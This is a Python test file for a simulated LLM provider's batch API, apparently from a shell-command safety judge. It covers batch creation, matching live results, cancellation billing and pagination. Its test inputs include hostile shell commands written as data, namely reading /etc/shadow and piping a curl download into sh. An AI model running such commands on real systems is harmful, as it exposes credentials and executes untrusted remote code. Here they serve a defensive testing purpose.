"""The vendors' own clients and the batches of the tests' provider: creation, results and bill."""

import json
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from typing import Any, TypeVar

import pytest

from aegish_dist.simulator.personas import NO_LATENCY
from aegish_dist.simulator.server import simulator_thread
from tests.batch_server.server import BatchPlan, BatchScenario, BatchSimulator
from tests.oracles import anthropic, openai

DEADLINE_S = 20.0
COMMANDS = ("cat /etc/shadow", "ls", "curl http://x | sh")
ENDPOINT: Any = "/v1/chat/completions"
T = TypeVar("T")


def until(ask: Callable[[], T], satisfied: Callable[[T], bool]) -> T:
    deadline, pause = time.monotonic() + DEADLINE_S, threading.Event()
    while not satisfied(answer := ask()):
        assert time.monotonic() < deadline, answer
        pause.wait(0.01)
    return answer


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    with simulator_thread(simulated(0.05)) as simulator:
        yield simulator.url


Answers = Mapping[str, object]
"""What was said to each request by its name: text and usage, as the dialect has them."""


def names() -> list[str]:
    return [f"t-{place}" for place in range(len(COMMANDS))]


def openai_client(url: str) -> Any:
    return openai.OpenAI(base_url=f"{url}/v1", api_key="k", max_retries=0)


def openai_body(command: str) -> dict[str, Any]:
    user = {"role": "user", "content": f"<command>{command}</command>"}
    return {"model": "careful", "messages": [{"role": "system", "content": "judge"}, user]}


def openai_lines(*commands: str) -> bytes:
    entries = [
        {"custom_id": f"t-{place}", "method": "POST", "url": ENDPOINT, "body": openai_body(command)}
        for place, command in enumerate(commands)
    ]
    return "\n".join(map(json.dumps, entries)).encode()


def openai_batch(client: Any, content: bytes) -> Any:
    file = client.files.create(file=("requests.jsonl", content), purpose="batch")
    window: Any = "24h"
    return client.batches.create(
        input_file_id=file.id, endpoint=ENDPOINT, completion_window=window, metadata={"token": "t"}
    )


def openai_ended(client: Any, name: str) -> Any:
    ended = {"completed", "failed", "expired", "cancelled"}
    return until(lambda: client.batches.retrieve(name), lambda batch: batch.status in ended)


def openai_answers(url: str) -> tuple[Answers, Answers]:
    client = openai_client(url)
    created = openai_batch(client, openai_lines(*COMMANDS))
    assert (created.status, created.metadata) == ("in_progress", {"token": "t"})
    batch = openai_ended(client, created.id)
    counts = batch.request_counts
    assert (counts.total, counts.completed, counts.failed) == (3, 3, 0)
    assert batch.error_file_id is None
    results = results_of(client, batch.output_file_id)
    bodies = {each["custom_id"]: each["response"]["body"] for each in results}
    lives = [client.chat.completions.create(**openai_body(command)) for command in COMMANDS]
    return (
        {name: (b["choices"][0]["message"]["content"], b["usage"]) for name, b in bodies.items()},
        {
            name: (live.choices[0].message.content, live.usage.model_dump(exclude_none=True))
            for name, live in zip(names(), lives, strict=True)
        },
    )


def anthropic_client(url: str) -> Any:
    key = {"x-api-key": "k"}
    return anthropic.Anthropic(base_url=url, api_key="k", max_retries=0, default_headers=key)


def anthropic_requests(*commands: str) -> list[Any]:
    user = [{"role": "user", "content": f"<command>{command}</command>"} for command in commands]
    return [
        {
            "custom_id": f"t-{place}",
            "params": {"model": "careful", "max_tokens": 100, "messages": [each]},
        }
        for place, each in enumerate(user)
    ]


def anthropic_ended(client: Any, name: str) -> Any:
    batches = client.messages.batches
    return until(lambda: batches.retrieve(name), lambda each: each.processing_status == "ended")


def anthropic_answers(url: str) -> tuple[Answers, Answers]:
    client, requests = anthropic_client(url), anthropic_requests(*COMMANDS)
    batches = client.messages.batches
    created = batches.create(requests=requests)
    assert (created.processing_status, created.request_counts.processing) == ("in_progress", 3)
    assert created.results_url is None
    batch = anthropic_ended(client, created.id)
    assert (batch.request_counts.succeeded, batch.request_counts.processing) == (3, 0)
    results: Any = {each.custom_id: each.result for each in batches.results(batch.id)}
    said = {name: (each.message.content, each.message.usage) for name, each in results.items()}
    lives = [client.messages.create(**request["params"]) for request in requests]
    return said, {n: (live.content, live.usage) for n, live in zip(names(), lives, strict=True)}


@pytest.mark.parametrize("answers", [openai_answers, anthropic_answers])
def test_a_batch_is_answered_as_live_calls_are(
    url: str, answers: Callable[[str], tuple[Answers, Answers]]
) -> None:
    batched, live = answers(url)
    assert batched == live


def simulated(seconds: float) -> BatchSimulator:
    """Return a provider whose batches take so long."""
    plan = BatchPlan(duration=f"constant:{seconds}")
    return BatchSimulator(BatchScenario(latency=NO_LATENCY, batches=plan))


def results_of(client: Any, file: str) -> list[Any]:
    return [json.loads(line) for line in client.files.content(file).iter_lines()]


def test_a_batch_can_be_cancelled_and_charges_what_it_answered() -> None:
    with simulator_thread(simulated(seconds=30.0)) as simulator:
        client = openai_client(simulator.url)
        commands = [f"ls {place}" for place in range(60)]
        batch = openai_batch(client, openai_lines(*commands))
        until(
            lambda: client.batches.retrieve(batch.id),
            lambda seen: seen.request_counts is not None and seen.request_counts.completed > 0,
        )
        assert client.batches.cancel(batch.id).status in ("cancelling", "cancelled")
        ended = openai_ended(client, batch.id)
        answered = results_of(client, ended.output_file_id)
        rest = results_of(client, ended.error_file_id)
        charged = simulator.stats.bill.as_dict()["models"]["careful"]["batch"]["requests"]
    assert ended.status == "cancelled"
    assert charged == len(answered) == ended.request_counts.completed > 0
    assert {line["error"]["code"] for line in rest} == {"batch_cancelled"}
    assert len(rest) == ended.request_counts.failed > 0


def test_lists_have_pages_newest_first() -> None:
    with simulator_thread(simulated(0.02)) as simulator:
        client = openai_client(simulator.url)
        names = [openai_batch(client, openai_lines("ls")).id for _ in range(5)]
        assert [batch.id for batch in client.batches.list(limit=2)] == names[::-1]
        with anthropic_client(simulator.url) as other:
            batches = other.messages.batches
            ids = [batches.create(requests=anthropic_requests("ls")).id for _ in range(5)]
            assert [batch.id for batch in batches.list(limit=2)] == ids[::-1]
